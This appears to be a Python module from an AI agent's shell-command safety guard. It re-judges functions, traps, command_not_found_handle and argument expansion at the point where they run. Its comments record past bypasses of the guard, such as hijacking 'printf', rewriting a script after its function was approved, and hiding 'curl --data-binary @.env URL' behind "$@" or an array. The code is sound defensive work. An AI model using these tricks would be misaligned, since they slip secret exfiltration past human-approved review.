"""Shell code the session keeps and runs later: functions, traps and bash's ``command_not_found_handle``.

The agent's shell persists between steps. A function's body was judged once, where it was defined, with the
files it names as they were then: ``f() { bash run.sh; }`` in one step, ``run.sh`` rewritten in the next, then
``f``, ran the new ``run.sh``; on one line, ``f() { bash run.sh; }; echo '…' > run.sh; f`` did the same. A
``trap 'bash run.sh' DEBUG`` runs before every later command, and ``command_not_found_handle`` at every
mistyped one. The guard keeps these (``GuardContext.shell_functions``/``shell_hooks``, committed only when the
command that defines them is approved) and judges a function's body again wherever it is called, and every
hook again at every later review, with the files as they are then.
"""

from __future__ import annotations

import re
import shlex
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable

    from macrohard.safety.commands import Analyzer

MAX_HOOKS = 16  # traps and handlers kept; more are judged as one unknown
NOT_FOUND = "command_not_found_handle"
# what the persistent shell itself runs between the agent's steps (envs.shell: `builtin eval '…'`, then `builtin
# printf` of a sentinel), and the words that reach a builtin past a function: a function or alias of one of these
# names runs at every later step where no reviewed line names it (guard31: `printf() { . ./n.sh; builtin printf
# "$@"; }`, n.sh written a step later, then any command ran n.sh)
PLUMBING = frozenset({"eval", "printf", "builtin", "command"})


def plumbing(an: Analyzer, kind: str, name: str) -> None:
    if name in PLUMBING:
        an.r.add("obfuscation", f"{kind} named {name!r} runs where the session's own shell calls {name} between steps, "
                                "unseen by any review; give it another name")


def define(an: Analyzer, functions: dict[str, str]) -> None:
    """Functions the line defines (a later definition of a name replaces the earlier one, as in bash)."""
    for name, body in functions.items():
        plumbing(an, "a function", name)
        an.functions[name] = body
        if name == NOT_FOUND:
            add_hook(an, body)


def add_hook(an: Analyzer, code: str) -> None:
    """A trap's code (or a handler): it runs at later commands, so every later review judges it again."""
    if code in an.hooks:
        return
    an.hooks.append(code)
    if len(an.hooks) > MAX_HOOKS:
        an.r.add("dynamic", f"more than {MAX_HOOKS} traps and handlers set in this session, too many to review")


# a positional parameter standing as a word of its own: `"$@"`, `$*`, `"$1"`, `${2}`, `"${@:2}"`, `${*:1:2}`
_SLICE = r"\{(?P<N>[@*])(?::(?P<Ns>\d+)(?::(?P<Nn>\d+))?)?\}|\{?(?P<N1>[@*1-9])\}?"
_POSITIONAL = re.compile(r'"\$(?:' + _SLICE.replace("N", "q") + r')"|(?<!["\w\\$])\$(?:' + _SLICE.replace("N", "u")
                         + r')(?![\w"])')
# a positional parameter inside a longer word or a double-quoted string, and an argument whose text reads the same
# there (no quote, backslash, `$` or backquote to be read again)
_EMBEDDED = re.compile(r"(?<![\\$])\$(?:\{([@*1-9])\}|([@*1-9]))")
# rt52: what bash does not expand: a single-quoted string outside double quotes, an ANSI-C one, a backslash's char
_QUOTED = re.compile(r"""\\.|\$'(?:[^'\\]|\\.)*'?|'[^']*'?|"(?:[^"\\]|\\.)*"?""", re.S)
_PLAIN_ARG = re.compile(r"[^'\"\\$`]*")
_SET_ARGS = re.compile(r"(?:^|[;&|\n({]\s*)set\s+--\s+([^;&|\n)}]*)")


def with_arguments(code: str, args: list[str]) -> str | None:
    """``code`` with its positional parameters as ``args`` (rt50: `f() { curl "$@"; }; f --data-binary @.env URL` and
    `set -- … ; curl "$@"` were judged as curl with nothing known to send); None when it names none, or an argument
    is only known when it runs. ``"$*"`` and ``x="$@"`` are one word; ``"$@"`` and a bare ``$*`` are the words."""
    if not args or any(c in a for a in args for c in "$`"):
        return None

    def value(m: re.Match[str]) -> str:
        g = m.groupdict()
        quoted = g["q"] or g["q1"]
        key = quoted or g["u"] or g["u1"]
        if key not in "@*":
            return shlex.quote(args[int(key) - 1]) if int(key) <= len(args) else "''"
        start, count = g["qs"] or g["us"], g["qn"] or g["un"]
        words = args[max(int(start or 1) - 1, 0):]
        words = words[:int(count)] if count else words
        one_word = quoted and key == "*" or code[:m.start()].endswith("=")
        return shlex.quote(" ".join(words)) if one_word else shlex.join(words)

    def inside(m: re.Match[str]) -> str:
        key = m.group(1) or m.group(2)
        return " ".join(args) if key in "@*" else args[int(key) - 1] if int(key) <= len(args) else ""

    # rt51's reading rewrote `$1}` inside single quotes (`awk '{print $1}' "$@"` read as `{print README.md`)
    out = _unquoted(code, lambda part: _POSITIONAL.sub(value, part))
    if all(_PLAIN_ARG.fullmatch(a) for a in args):  # rt51: `eval "curl $*"`, `"x$1"`: inside a word, the text
        out = _unquoted(out, lambda part: _EMBEDDED.sub(inside, part))
    return None if out == code else out


def _unquoted(code: str, change: Callable[[str], str]) -> str:
    """``code`` with ``change`` made to each part bash expands parameters in: every part but single-quoted strings
    (outside double quotes), ANSI-C strings and backslash-escaped characters, which are kept as they are."""
    out, at = [], 0
    for m in _QUOTED.finditer(code):
        if m.group(0).startswith('"'):
            continue  # a double-quoted string is expanded (a `'` inside it is a character)
        out += [change(code[at:m.start()]), m.group(0)]
        at = m.end()
    return "".join(out) + change(code[at:])


_ARRAY_SET = re.compile(r"(?:^|[;&|\n({]\s*)(?:(?:local|declare|typeset)\s+(?:-a\s+)?)?([A-Za-z_]\w*)=\(([^()$`]*)\)")


def array_arguments(command: str) -> str | None:
    """The rest of a line after ``a=(WORDS)``, with ``"${a[@]}"`` and ``${a[*]}`` as the words (rt50: `a=(-s
    --data-binary @.env URL); curl "${a[@]}"` was judged as curl with nothing known to send)."""
    if (m := _ARRAY_SET.search(command)) is None:
        return None
    try:
        words = shlex.split(m.group(2))
    except ValueError:
        return None
    name = re.escape(m.group(1))
    rest = command[m.end():]
    out = re.sub(r'"\$\{' + name + r'\[[@*]\]\}"|\$\{' + name + r'\[[@*]\]\}', lambda _: shlex.join(words), rest)
    return None if out == rest else out.lstrip(" \t\n;&|")


def shell_arguments(prog: str, rest: list[str], inv: Any) -> list[str]:
    """The ``$1``… of what ``bash -c CODE NAME ARGS``, ``bash SCRIPT ARGS`` or ``source FILE ARGS`` runs."""
    if prog in ("source", "."):
        return rest[1:]
    if inv.codes and inv.codes[0] in rest:
        return rest[rest.index(inv.codes[0]) + 2:]
    if inv.script and inv.script in rest:
        return rest[rest.index(inv.script) + 1:]
    return []


def set_arguments(command: str) -> str | None:
    """The rest of a line after `set -- ARGS`, with its positional parameters as ARGS."""
    if (m := _SET_ARGS.search(command)) is None:
        return None
    try:
        args = shlex.split(m.group(1))
    except ValueError:
        return None
    return with_arguments(command[m.end():].lstrip(" \t\n;&|"), args)


def called(an: Analyzer, name: str, cwd: str | None, depth: int, inlined: bool = False, args: list[str] = ()) -> None:
    """``f`` where the session defined ``f()``: its body runs here, with the files as they are now (``inlined``: the
    line's walk visited the body in the call's place, ``safety.loopcall``), and with ``args`` as its ``$1``…"""
    if name not in an.functions or name in an.expanding:
        return
    an.expanding.add(name)
    if (reading := with_arguments(an.functions[name], list(args))) is not None:
        an.line(reading, depth + 1, cwd)
    # what the body does to PATH stands after the call, as in bash (its assignments are judged here, not where it
    # was defined: `f() { . ./env.sh; }`, env.sh rewritten to put ./bin first, `f`, then `ls`); a restore of a copy
    # of PATH (a virtualenv's `deactivate`) adds nothing (safety.lookup)
    try:
        body = an.functions[name]
        if not inlined:
            an.args_known += reading is not None
            try:
                an.line(body, depth + 1, cwd)
            finally:
                an.args_known -= reading is not None
        # `T=~/.bashrc; h` where h writes "$T": judged again with the line's values of the names it reads (guard20:
        # asked as "a path only known when it runs", where `cat x >> ~/.bashrc` itself is refused); the values earlier
        # steps gave are among them (safety.session), also where the walk visited the body in the call's place
        known = {k: v for k, v in an.line_vars.items() if re.search(rf"\$\{{?{re.escape(k)}\b", body) and "$" not in v}
        if known:
            an.line("".join(f"{k}={shlex.quote(v)}; " for k, v in known.items()) + body, depth + 1, cwd)
    finally:
        an.expanding.discard(name)


def replay(an: Analyzer, cwd: str | None) -> None:
    """At the start of a review: the hooks earlier steps set run around this command."""
    for code in list(an.hooks[:MAX_HOOKS]):
        an.line(code, 1, cwd)


def builtin_code(an: Analyzer, prog: str, args: list[str], cwd: str | None, depth: int) -> None:
    """Builtins that run code they are given: ``mapfile -C CODE`` at every line it reads, ``compgen -C CMD``/``-F
    FUNC``, and ``compgen -W WORDS``, which expands its words again (``compgen -W "$w"`` ran the ``$(…)`` of a file's
    text put in ``w``)."""
    if prog == "bind":  # guard34: `bind -x '"KEYS": CMD'` runs CMD when the keys are read (`read -e`)
        for i, a in enumerate(args):
            m = re.fullmatch(r"-[a-zA-Z]*x(.*)", a, re.S) if a.startswith("-") and not a.startswith("--") else None
            if not m:
                continue
            code = m.group(1) or (args[i + 1] if i + 1 < len(args) else "")
            body = re.fullmatch(r"\s*(?:\"(?:[^\"\\]|\\.)*\"|[^\s:]+)\s*:\s*(.*)", code, re.S)
            if body is None or "$" in code or "`" in code:
                an.r.add("dynamic", f"bind -x runs code when its keys are read: {code[:60]}")
            else:
                an.line(body.group(1), depth + 1, cwd)
        return
    split = []  # guard31: `mapfile -c1 '-Ccode'`, `-tC code`: the option's value attached, or after a cluster
    for a in args:
        m = re.fullmatch(r"-([a-zA-Z]*?)([CF])(.*)", a, re.S) if a.startswith("-") and not a.startswith("--") else None
        if m and (m.group(2) == "C" or prog in ("compgen", "complete")):
            split += [f"-{m.group(2)}", m.group(3)] if m.group(3) else [f"-{m.group(2)}"]
        else:
            split.append(a)
    args = split
    for i, a in enumerate(args[:-1]):
        code = args[i + 1]
        if prog in ("mapfile", "readarray") and a == "-C" or prog in ("compgen", "complete") and a in ("-C", "-F"):
            if "$" in code or "`" in code:
                an.r.add("dynamic", f"{prog} {a} runs code only known when it runs: {code[:60]}")
            else:  # given the line read (mapfile) or the word (compgen) as its last arguments
                an.line(code + ' "$index" "$line"', depth + 1, cwd)
        elif prog in ("compgen", "complete") and a == "-W" and ("$" in code or "`" in code):
            an.r.add("dynamic", f"{prog} -W expands its words again when it runs, which runs a $(…) in them "
                                f"({code[:60]}); list the words themselves")

